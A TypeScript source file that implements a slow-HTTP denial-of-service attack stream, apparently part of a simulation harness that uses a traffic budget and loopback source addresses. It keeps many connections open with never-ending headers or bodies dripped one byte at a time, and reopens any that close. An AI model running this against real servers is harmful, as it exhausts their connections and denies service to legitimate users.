import { connect, type Socket } from 'node:net';
import type { ClientCounts } from '../../../shared/scenario/evidence.ts';
import type { AttackStream } from '../../../shared/scenario/stream.ts';
import type { TrafficBudget } from './budget.ts';
import type { RunningStream } from './running-stream.ts';
import type { Target } from './target.ts';

/** Connections that are opened anew in one tick, at most. */
const reopenLimit = 16;
/** A body that is never sent whole, in bytes. */
const promisedLength = 1_000_000;

export interface AttackStreamOptions {
  readonly stream: AttackStream;
  readonly target: Target;
  readonly budget: TrafficBudget;
  /** The loopback address that connections come from, so that they are another client's; null leaves it to the system. */
  readonly from: string | null;
}

/** Holds connections with requests that never end, a byte at a time; those that are closed are opened again. */
export class SlowAttackStream implements RunningStream {
  readonly #options: AttackStreamOptions;
  readonly #sockets = new Set<Socket>();
  #timer: NodeJS.Timeout | undefined;
  #sent = 0;
  #answered = 0;
  #failed = 0;

  constructor(options: AttackStreamOptions) {
    this.#options = options;
  }

  get counts(): ClientCounts {
    return { sent: this.#sent, answered: this.#answered, failed: this.#failed };
  }

  run(): void {
    this.#fill(this.#options.stream.connections);
    clearInterval(this.#timer);
    this.#timer = setInterval(() => this.#drip(), this.#options.stream.every);
  }

  pause(): void {
    clearInterval(this.#timer);
  }

  stop(): Promise<void> {
    this.close();
    return Promise.resolve();
  }

  close(): void {
    this.pause();
    for (const socket of this.#sockets) socket.destroy();
  }

  #drip(): void {
    for (const socket of this.#sockets) if (socket.writable && !socket.connecting) socket.write('x');
    this.#fill(reopenLimit);
  }

  #fill(most: number): void {
    const missing = Math.min(most, this.#options.stream.connections - this.#sockets.size);
    for (let at = 0; at < missing; at += 1) {
      if (!this.#options.budget.take()) return;
      this.#open();
    }
  }

  #open(): void {
    const { stream, target, from } = this.#options;
    const socket = connect({
      host: target.address,
      port: target.port,
      ...(from === null ? {} : { localAddress: from }),
    });
    let hasAnswer = false;
    this.#sent += 1;
    this.#sockets.add(socket);
    socket.on('connect', () => {
      const head = `Host: localhost:${target.port}\r\nUser-Agent: slow\r\n`;
      // The head, or the body after it, goes on with what is dripped, and never ends.
      socket.write(
        stream.kind === 'slow-head'
          ? `GET / HTTP/1.1\r\n${head}X-Slow: `
          : `POST /basket HTTP/1.1\r\n${head}Content-Length: ${promisedLength}\r\n\r\n`,
      );
    });
    socket.on('data', () => {
      hasAnswer = true;
    });
    socket.on('error', () => socket.destroy());
    socket.on('close', () => {
      this.#sockets.delete(socket);
      if (hasAnswer) this.#answered += 1;
      else this.#failed += 1;
    });
  }
}
